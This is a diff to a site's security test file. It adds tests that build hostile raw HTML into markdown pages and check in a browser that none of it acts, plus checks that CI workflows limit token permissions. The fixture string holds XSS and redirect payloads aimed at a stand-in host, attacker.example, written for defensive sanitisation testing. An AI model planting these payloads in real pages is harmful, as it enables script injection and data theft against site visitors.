@@ -1,4 +1,5 @@
-import { readFileSync } from 'node:fs';
+import { readdirSync, readFileSync } from 'node:fs';
+import { parse as parseYaml } from 'yaml';
 import { join } from 'node:path';
 import { Parser } from 'htmlparser2';
 import { describe, expect, it } from 'vitest';
@@ -6,7 +7,8 @@ import { contentSecurityPolicy, REFERRER_POLICY, securityHeaders } from '../src/
 import { headersForPath, parseHeadersFile } from '../test-support/headers.ts';
 import { loadSiteConfig } from '../src/site/config.ts';
 import { builtPages } from '../test-support/pages.ts';
-import { FIXTURE_CONTENT, fixtureSite, projectRoot } from '../test-support/project.ts';
+import { builtCopy, FIXTURE_CONTENT, fixtureSite, projectRoot } from '../test-support/project.ts';
+import { siteInBrowser } from '../test-support/browser.ts';
 
 /** What every built page of the fixture site carries for safety, read from its dist/ (pages found there, not listed). */
 interface Tag {
@@ -88,3 +90,117 @@ describe('dist/_headers', () => {
     for (const directive of contentSecurityPolicy('meta').split('; ')) expect(header).toContain(directive);
   });
 });
+
+/**
+ * Hostile content, as a pull request could propose it, built into a copy of the site and
+ * loaded in a real browser: a .md doc and a meeting record full of raw HTML that would
+ * redirect, run script, embed or submit. The site keeps only what GitHub keeps
+ * (src/markdown/author-html.ts); here the browser shows that nothing of it acts.
+ */
+const ATTACKER = 'attacker.example';
+const HOSTILE_HTML = `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/refresh">
+
+Read [the notes](javascript:document.title='pwned-link') or <a id="js-link" href="javascript:document.title='pwned-a'">these</a>.
+
+<img src="https://${ATTACKER}/pixel.png" alt="x" onerror="document.title='pwned-img'">
+
+<iframe src="https://${ATTACKER}/frame"></iframe>
+
+<form action="https://${ATTACKER}/form" method="post"><input name="q" value="x"><button id="submit">Send</button></form>
+
+<svg onload="document.title='pwned-svg'"><use href="https://${ATTACKER}/x.svg#a"/></svg>
+
+<script>document.title = 'pwned-script'</script>
+
+<div onmouseover="document.title='pwned-hover'">Hover here</div>
+
+<object data="https://${ATTACKER}/x.swf"></object><embed src="https://${ATTACKER}/embed"><link rel="stylesheet" href="https://${ATTACKER}/x.css">
+`;
+
+describe('a page built from hostile content, in the browser', () => {
+  const hostile = builtCopy((copy) => {
+    copy.write('content/docs/hostile.md', `---\ntitle: Hostile\ndescription: Raw HTML that must not act.\n---\n\n${HOSTILE_HTML}`);
+    copy.write('content/meetings/office-hours/2025-06-26.md', `---\n---\n\n## Notes\n\n${HOSTILE_HTML}`);
+    // A motion, as decision:new writes a subject into the body.
+    copy.replaceFolder('content/maintainers', 'tests/fixtures/roster');
+    copy.write(
+      'content/decisions/2026-03-hostile.md',
+      `---\nkind: change-charter\nsubject: Hostile motion\nopened: 2026-03-01\nheldAt: https://github.com/modelpack/community/issues/101\nvotes: {}\n---\n\n${HOSTILE_HTML}`,
+    );
+  });
+  const served = siteInBrowser(() => hostile.dist);
+
+  it.each([['hostile/'], ['meetings/office-hours/2025-06-26/'], ['decisions/2026-03-hostile/']])(
+    '%s: no navigation, no request to another host, no script run',
+    async (route) => {
+      const page = await served.browser.newPage();
+      const elsewhere: string[] = [];
+      const dialogs: string[] = [];
+      const pageUrl = new URL(route, served.site.url).href;
+      await page.route('**/*', (r) => {
+        if (new URL(r.request().url()).hostname !== '127.0.0.1') {
+          elsewhere.push(r.request().url());
+          return r.abort();
+        }
+        return r.continue();
+      });
+      page.on('dialog', (d) => {
+        dialogs.push(d.message());
+        void d.dismiss();
+      });
+      await page.goto(pageUrl, { waitUntil: 'load' });
+      const title = await page.title();
+      // Whatever a reader does: hover, click every link left, submit every form left.
+      await page.hover('text=Hover here');
+      for (const link of await page.locator('main a').all()) {
+        const href = await link.getAttribute('href');
+        if (href?.startsWith('#') === false) continue;
+        await link.click({ noWaitAfter: true }).catch(() => undefined);
+      }
+      await page
+        .locator('#submit')
+        .click({ timeout: 500 })
+        .catch(() => undefined);
+      await page.waitForTimeout(500);
+      expect(page.url().replace(/#.*$/, '')).toBe(pageUrl);
+      expect(await page.title()).toBe(title);
+      expect(title).not.toContain('pwned');
+      expect(elsewhere).toEqual([]);
+      expect(dialogs).toEqual([]);
+      const html = await page.locator('main').innerHTML();
+      for (const tag of ['<iframe', '<form', '<object', '<embed', '<svg', 'http-equiv="refresh"', 'javascript:']) expect(html, tag).not.toContain(tag);
+      await page.close();
+    },
+  );
+});
+
+describe('the CI workflows, which build every pull request', () => {
+  const workflows = readdirSync(join(projectRoot, '.github/workflows'))
+    .filter((name) => name.endsWith('.yml'))
+    .map((name) => ({ name, workflow: parseYaml(readFileSync(join(projectRoot, '.github/workflows', name), 'utf8')) as Workflow }));
+
+  it('give the token no more than reading the repository, except the one job that publishes to Pages', () => {
+    for (const { name, workflow } of workflows) {
+      expect(workflow.permissions, name).toEqual({ contents: 'read' });
+      for (const [id, job] of Object.entries(workflow.jobs)) {
+        if (job.permissions === undefined) continue;
+        expect({ name, id, permissions: job.permissions }).toEqual({ name: 'deploy.yml', id: 'deploy', permissions: { pages: 'write', 'id-token': 'write' } });
+      }
+    }
+  });
+
+  it('keep no token in a checkout, where the content being built could read it from .git/config', () => {
+    const checkouts = workflows.flatMap(({ name, workflow }) =>
+      Object.values(workflow.jobs).flatMap((job) =>
+        (job.steps ?? []).filter((s) => s.uses?.startsWith('actions/checkout@')).map((s) => ({ name, with: s.with })),
+      ),
+    );
+    expect(checkouts.length).toBeGreaterThan(1);
+    for (const checkout of checkouts) expect(checkout.with?.['persist-credentials'], checkout.name).toBe(false);
+  });
+});
+
+interface Workflow {
+  permissions?: Record<string, string>;
+  jobs: Record<string, { permissions?: Record<string, string>; steps?: { uses?: string; with?: Record<string, unknown> }[] }>;
+}
